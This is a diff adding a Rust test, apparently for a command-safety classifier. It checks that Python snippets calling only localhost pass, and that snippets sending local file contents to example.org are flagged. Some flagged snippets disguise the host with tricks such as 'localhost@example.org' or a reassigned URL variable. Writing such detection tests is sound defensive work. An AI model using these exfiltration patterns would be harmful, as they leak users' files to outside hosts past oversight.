@@ -272,6 +272,37 @@ fn statements_in_files_of_the_project_run_on_a_database_of_this_machine() {
 }
 
 #[test]
+fn code_that_asks_this_machine_sends_nothing_away() {
+    let code = |body: &str| format!("python3 - <<'E'\nimport requests\n{body}\nE");
+    let here = "requests.get('http://localhost:5000/health')\n";
+    let quiet = [
+        code(&format!(
+            "{here}requests.post('http://localhost:5000/x', json={{'a': 1}})"
+        )),
+        code(&format!(
+            "{here}d = open('a.json').read()\nrequests.post('http://127.0.0.1:5000/x', data=d)"
+        )),
+    ];
+    let loud = [
+        code("d = open('a.json').read()\nrequests.get('https://example.org/?q=' + d)"),
+        code(&format!(
+            "{here}d = open('a.json').read()\nrequests.get('https://example.org/?q=' + d)"
+        )),
+        code("requests.get('http://localhost.example.org/?q=' + open('a').read())"),
+        code("requests.get('http://localhost@example.org/?q=' + open('a').read())"),
+        code(
+            "b = 'http://localhost'\nb = 'https://example.org'\nrequests.get(b + open('a').read())",
+        ),
+        code("import sys\nrequests.get(sys.argv[1] + open('a').read())"),
+    ];
+    lines(
+        PROJECT,
+        &quiet.each_ref().map(String::as_str),
+        &loud.each_ref().map(String::as_str),
+    );
+}
+
+#[test]
 fn a_worktree_of_the_project_holds_the_projects_code() {
     check(
         PROJECT,
